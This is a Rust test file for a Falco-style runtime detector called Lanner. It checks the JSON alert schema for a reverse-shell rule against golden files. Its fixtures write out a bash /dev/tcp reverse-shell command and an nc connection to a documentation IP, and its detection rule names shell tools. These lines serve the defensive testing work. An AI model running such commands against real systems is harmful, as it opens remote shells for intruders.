//! Golden tests of the alert schema, as Falco writes it: one rule (with the default
//! `append_output` of `Config` and a `%container.info` token) over three events with full,
//! partial and missing context, rendered by the real path (`EventView` → `Ruleset::alert` →
//! `write`) and compared with `golden/{full,partial,missing}.json` as parsed JSON.
//!
//! Regenerate the goldens after a deliberate change, then review the diff by hand:
//!
//! ```sh
//! LANNER_BLESS=1 cargo test -p lanner --bin lanner output::alert::tests
//! ```
//!
//! The goldens pin what Lanner writes today. Where that is not what Falco writes, the test
//! that builds the event says so.

use std::{collections::BTreeMap, net::IpAddr, path::PathBuf, sync::Arc};

use lanner_rules::{Alert, Ruleset, loader::Source};
use serde_json::{Value, json};

use super::{AlertFormat, json_text, to_json, write};
use crate::{
    config::Config,
    container::{ContainerRef, Runtime},
    enrich::{Ancestor, Context, Enriched, PodContext, ProcContext, UserContext},
    event::{Body, Connect, Event, Exec, ExecSyscall, L4, Peer, Text},
    k8s::PodMeta,
    process::table::Image,
    rules::extract::EventView,
    testutil::task,
};

/// 2025-11-27T10:11:12.123456789Z.
const TIME_NS: u64 = 1_764_238_272_123_456_789;
const HOST: &str = "node-1";
const ID: &str = "5d2c7e0f9a1b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5";
/// The top-level keys with the default `json_include_*` options.
const FALCO_KEYS: &str = "hostname output output_fields priority rule source tags time";
/// Keys of numeric fields (UINT32, PORT, ABSTIME): JSON numbers or null, never strings.
const NUMERIC: [&str; 4] = ["user.uid", "proc.tty", "fd.sport", "evt.time"];

const RULES: &str = r#"
- rule: Reverse shell or interactive exec
  desc: a shell or netcat runs or connects out
  condition: evt.type in (execve, connect) and proc.name in (bash, nc, python3)
  output: >
    Reverse shell (user=%user.name uid=%user.uid cmdline=%proc.cmdline proc=%proc.name
    parent=%proc.pname gparent=%proc.aname[2] tty=%proc.tty connection=%fd.name
    sport=%fd.sport evt=%evt.type container=%container.id cname=%container.name
    image=%container.image.repository ns=%k8s.ns.name pod=%k8s.pod.name
    app=%k8s.pod.label[app]) %container.info
  priority: CRITICAL
  tags: [network, mitre_execution, T1059, container, network]
"#;

fn ruleset() -> Ruleset {
    let src = Source {
        name: Arc::from("golden.yaml"),
        text: RULES.into(),
    };
    let loaded = lanner_rules::load(&[src], &Config::default().engine_options())
        .unwrap_or_else(|e| panic!("{e:?}"));
    let w = &loaded.warnings;
    let warned = w.iter().any(|w| w.to_string().contains("%container.info"));
    assert!(warned, "%container.info is deprecated: {w:?}");
    loaded.ruleset
}

fn text(v: &str) -> Text {
    Text {
        value: Some(v.into()),
        truncated: false,
    }
}

fn ancestor(pid: u32, cmdline: &str) -> Ancestor {
    let mut words = cmdline.split(' ');
    let name = words.next().unwrap_or_default();
    Ancestor {
        pid,
        image: Arc::new(Image::new(
            name.into(),
            name.into(),
            Some(format!("/usr/bin/{name}")),
            words.map(String::from).collect(),
            None,
        )),
    }
}

fn exec(argv: &[&str], tty: u32) -> Body {
    Body::Exec(Exec {
        syscall: ExecSyscall::Execve,
        ret: 0,
        ppid: 1,
        vpid: Some(7),
        groups: None,
        euid: 0,
        loginuid: Some(u32::MAX),
        cap_effective: 0,
        cap_permitted: 0,
        tty: Some(tty),
        upper_layer: Some(false),
        from_memfd: false,
        filename: text(&format!("/usr/bin/{}", argv[0])),
        image: Image::of(
            argv[0],
            argv,
            Some(&format!("/usr/bin/{}", argv[0])),
            Some("/"),
        ),
        argv_empty: argv.is_empty(),
        args_truncated: false,
        env: None,
        dirfd: -100,
        at_flags: 0,
    })
}

/// `lineage[0]` is the process itself.
fn enriched(uid: u32, user: &str, body: Body, lineage: Vec<Ancestor>, pod: PodContext) -> Enriched {
    let mut t = task(lineage[0].pid, &lineage[0].name);
    t.uid = uid;
    Enriched {
        event: Event {
            boot_ns: 1,
            task: t,
            body,
        },
        ctx: Context {
            process: ProcContext {
                lineage: lineage.into(),
                ..ProcContext::default()
            },
            user: Arc::new(UserContext {
                name: user.into(),
                group: user.into(),
                loginname: "<NA>".into(),
                arg_name: None,
            }),
            container: match pod {
                PodContext::Host => ContainerRef::Host,
                _ => ContainerRef::Container {
                    runtime: Some(Runtime::Containerd),
                    full_id: ID.into(),
                },
            },
            pod,
            skipped: false,
        },
    }
}

fn pod() -> Arc<PodMeta> {
    let labels: BTreeMap<String, String> = [("app", "web"), ("io.kubernetes.pod.name", "web-0")]
        .into_iter()
        .map(|(k, v)| (k.into(), v.into()))
        .collect();
    Arc::new(PodMeta {
        namespace: "shop".into(),
        pod_name: "web-0".into(),
        pod_uid: "0d7f-uid".into(),
        labels,
        pod_ip: Some("10.244.1.17".into()),
        container_name: "nginx".into(),
        image: "nginx:1.25".into(),
        runtime_image: "docker.io/library/nginx:1.25".into(),
        image_repository: "docker.io/library/nginx".into(),
        image_tag: "1.25".into(),
        privileged: false,
        host_path_mounts: Vec::new(),
        started_at_ns: Some(TIME_NS - 60_000_000_000),
    })
}

/// FULL: `bash -c '…'` exec'd by nginx in a container whose pod is known, with a tty and the
/// whole ancestry. `fd.*` are null: Falco has no fd for an execve either.
fn full() -> Enriched {
    let cmd = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
    let lineage = vec![
        ancestor(4242, &format!("bash -c {cmd}")),
        ancestor(4200, "nginx -g daemon off;"),
        ancestor(4100, "containerd-shim -namespace k8s.io"),
        ancestor(1, "systemd"),
    ];
    let body = exec(&["bash", "-c", cmd], 34816);
    enriched(33, "www-data", body, lineage, PodContext::Found(pod()))
}

/// PARTIAL: `nc` connects out from a container whose pod never arrived (`<pending>` for the
/// pod, null for the runtime fields), and its parent is not in the process table.
/// Not Falco: `proc.tty` is null because Lanner reads the tty from exec records only; Falco
/// prints the thread's tty (a number, 0 for none) on every event.
fn partial() -> Enriched {
    let body = Body::Connect(Connect {
        ret: 0,
        fd: 3,
        peer: Peer::Inet(IpAddr::from([198, 51, 100, 7]), 4444),
        local: Some((IpAddr::from([10, 244, 1, 17]), 43512)),
        l4: Some(L4::Tcp),
    });
    let lineage = vec![ancestor(5150, "nc 198.51.100.7 4444")];
    enriched(0, "root", body, lineage, PodContext::Pending)
}

/// MISSING: a host process of an unknown user (`user.name` is Falco's literal `<NA>`, not
/// null) with no tty (0, not null), no known parent, no pod and no fd.
fn missing() -> Enriched {
    let body = exec(&["python3", "-c", "import pty"], 0);
    let lineage = vec![ancestor(777, "python3 -c import pty")];
    enriched(1001, "<NA>", body, lineage, PodContext::Host)
}

fn alert_of(e: &Enriched) -> Alert {
    let rs = ruleset();
    let view = EventView::new(e, TIME_NS).with_hostname(HOST);
    let mut fired = Vec::new();
    rs.evaluate(&view, |r| fired.push(rs.alert(r, &view, TIME_NS)));
    assert_eq!(fired.len(), 1, "exactly one alert");
    fired.remove(0)
}

fn format() -> AlertFormat {
    AlertFormat::from_config(&Config::default(), HOST.into())
}

/// The line `write` produces, checked to be one line, and parsed.
fn line(a: &Alert, f: &AlertFormat) -> String {
    let mut out = Vec::new();
    write(&mut out, a, f, None).unwrap();
    // With sinks the JSON text is made once and handed in: the same line.
    let mut handed = Vec::new();
    write(&mut handed, a, f, Some(&json_text(a, f))).unwrap();
    if f.json {
        assert_eq!(out, handed);
        // The line is serde_json's serialisation of the alert, byte for byte.
        let reference = serde_json::to_string(&super::AlertJson {
            alert: a,
            format: f,
        })
        .unwrap();
        assert_eq!(String::from_utf8_lossy(&out), reference + "\n");
    }
    let s = String::from_utf8(out).unwrap();
    let body = s.strip_suffix('\n').expect("ends with a newline");
    assert!(!body.contains('\n'), "one line: {s}");
    body.to_string()
}

fn encoded(e: &Enriched) -> Value {
    let (a, f) = (alert_of(e), format());
    let v: Value = serde_json::from_str(&line(&a, &f)).unwrap();
    assert_eq!(v, to_json(&a, &f));
    v
}

/// The top-level keys in the order they are written, space-separated.
fn keys(v: &Value) -> String {
    let k: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    k.join(" ")
}

fn assert_time(t: &str) {
    let (secs, frac) = t.split_once('.').expect("fraction");
    let digits = frac.strip_suffix('Z').expect("ends with Z");
    assert_eq!(secs.len(), "2025-11-27T10:11:12".len(), "{t}");
    assert_eq!(digits.len(), 9, "{t}");
    assert!(digits.bytes().all(|b| b.is_ascii_digit()), "{t}");
}

/// What every alert must satisfy, whatever its context.
fn check_schema(v: &Value) {
    assert_eq!(
        keys(v),
        FALCO_KEYS,
        "Falco's keys, sorted as Falco's JSON library writes them"
    );
    assert_eq!(v["hostname"], HOST);
    assert_eq!(v["priority"], "Critical");
    assert_eq!(v["rule"], "Reverse shell or interactive exec");
    assert_eq!(v["source"], "syscall");
    assert_eq!(v["time"], "2025-11-27T10:11:12.123456789Z");
    assert_time(v["time"].as_str().unwrap());
    let tags = v["tags"].as_array().unwrap();
    let sorted_set = tags.windows(2).all(|w| w[0].as_str() < w[1].as_str());
    assert!(sorted_set, "sorted, no duplicates: {tags:?}");
    let output = v["output"].as_str().unwrap();
    assert!(
        output.starts_with("10:11:12.123456789: Critical Reverse shell (user="),
        "{output}"
    );
    let fields = v["output_fields"].as_object().expect("output_fields");
    assert!(!fields.is_empty());
    assert!(
        fields.keys().is_sorted(),
        "sorted: serde_json without preserve_order"
    );
    assert_eq!(fields["evt.time"], json!(TIME_NS));
    for (k, val) in fields {
        let typed = match NUMERIC.contains(&k.as_str()) {
            true => val.is_u64(),
            false => val.is_string(),
        };
        assert!(typed || val.is_null(), "{k}: {val}");
    }
}

fn golden(name: &str, got: &Value) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("src/output/golden")
        .join(format!("{name}.json"));
    if std::env::var("LANNER_BLESS").is_ok_and(|v| v == "1") {
        let text = serde_json::to_string_pretty(got).unwrap() + "\n";
        std::fs::write(&path, text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        return;
    }
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (LANNER_BLESS=1 writes it)", path.display()));
    let want: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        got,
        &want,
        "{name}: the alert differs from {}; got:\n{}",
        path.display(),
        serde_json::to_string_pretty(got).unwrap()
    );
}

#[test]
fn full_context_matches_golden() {
    let v = encoded(&full());
    check_schema(&v);
    golden("full", &v);
    let f = &v["output_fields"];
    assert_eq!(f["proc.tty"], 34816);
    assert_eq!(f["user.uid"], 33);
    assert_eq!(f["k8s.pod.label[app]"], "web");
    assert_eq!(f["fd.sport"], Value::Null, "no fd on execve");
    // The appended suggested fields follow the rule's text; %container.info printed nothing.
    assert!(
        v["output"].as_str().unwrap().ends_with(
            "app=web)  container_id=5d2c7e0f9a1b container_name=nginx \
             container_image_repository=docker.io/library/nginx container_image_tag=1.25 \
             k8s_pod_name=web-0 k8s_ns_name=shop"
        ),
        "{}",
        v["output"]
    );
}

#[test]
fn partial_context_matches_golden() {
    let v = encoded(&partial());
    check_schema(&v);
    golden("partial", &v);
    let f = &v["output_fields"];
    assert_eq!(f["fd.sport"], 4444);
    assert_eq!(f["fd.name"], "10.244.1.17:43512->198.51.100.7:4444");
    assert_eq!(f["k8s.ns.name"], "<pending>");
    assert_eq!(f["container.name"], Value::Null);
    assert_eq!(f["proc.pname"], Value::Null);
    let out = v["output"].as_str().unwrap();
    assert!(out.contains("parent=<NA> gparent=<NA>"), "{out}");
    assert!(out.contains("pod=<pending>"), "{out}");
}

#[test]
fn missing_context_is_null_in_fields_and_na_in_text() {
    let v = encoded(&missing());
    check_schema(&v);
    golden("missing", &v);
    let f = &v["output_fields"];
    let absent = "proc.pname proc.aname[2] fd.name fd.sport k8s.ns.name k8s.pod.name";
    for k in absent.split(' ').chain(["k8s.pod.label[app]"]) {
        assert_eq!(f[k], Value::Null, "{k}");
    }
    assert_eq!(f["proc.tty"], 0);
    assert_eq!(f["user.name"], "<NA>");
    assert_eq!(f["container.id"], "host");
    assert_eq!(f["container.image.repository"], "");
    let out = v["output"].as_str().unwrap();
    for part in [
        "parent=<NA> gparent=<NA>",
        "connection=<NA> sport=<NA>",
        "ns=<NA> pod=<NA> app=<NA>)",
        "k8s_pod_name=<NA> k8s_ns_name=<NA>",
    ] {
        assert!(out.contains(part), "{part}: {out}");
    }
}

#[test]
fn json_include_options_remove_their_keys() {
    let a = alert_of(&full());
    let mut f = format();
    f.include_output = false;
    f.include_tags = false;
    f.include_output_fields = false;
    let v: Value = serde_json::from_str(&line(&a, &f)).unwrap();
    assert_eq!(keys(&v), "hostname priority rule source time");
    // Each alone removes only its own key; `message` (off by default) is the bare rule text.
    for key in ["output", "tags", "output_fields"] {
        let mut f = format();
        f.include_output = key != "output";
        f.include_tags = key != "tags";
        f.include_output_fields = key != "output_fields";
        let want: Vec<&str> = FALCO_KEYS.split(' ').filter(|k| *k != key).collect();
        assert_eq!(keys(&to_json(&a, &f)), want.join(" "));
    }
    let mut f = format();
    f.include_message = true;
    let v = to_json(&a, &f);
    let msg = v["message"].as_str().unwrap();
    assert_eq!(v["output"], format!("10:11:12.123456789: Critical {msg}"));
}

#[test]
fn text_output_is_one_escaped_line() {
    let mut e = full();
    // An attacker-chosen argument with a quote, a newline and a tab.
    e.event.body = exec(&["bash", "-c", "echo \"x\"\n\tid"], 34816);
    let a = alert_of(&e);
    let l = line(
        &a,
        &AlertFormat {
            json: false,
            ..format()
        },
    );
    assert!(
        l.starts_with("10:11:12.123456789: Critical Reverse shell (user=www-data uid=33 "),
        "{l}"
    );
    assert!(
        l.contains(r#"cmdline=bash -c echo \"x\"\n\tid proc=bash "#),
        "{l}"
    );
    assert!(!l.starts_with('"') && !l.ends_with('"'), "{l}");
    assert!(l.ends_with("k8s_pod_name=web-0 k8s_ns_name=shop"), "{l}");
}

#[test]
fn time_has_nine_fraction_digits_and_z() {
    let mut a = alert_of(&missing());
    for ns in [0, 1, 1_000_000_000, TIME_NS, u64::MAX / 2] {
        a.time_ns = ns;
        assert_time(to_json(&a, &format())["time"].as_str().unwrap());
    }
    a.time_ns = 1_000_000_000;
    assert_eq!(
        to_json(&a, &format())["time"],
        "1970-01-01T00:00:01.000000000Z"
    );
}
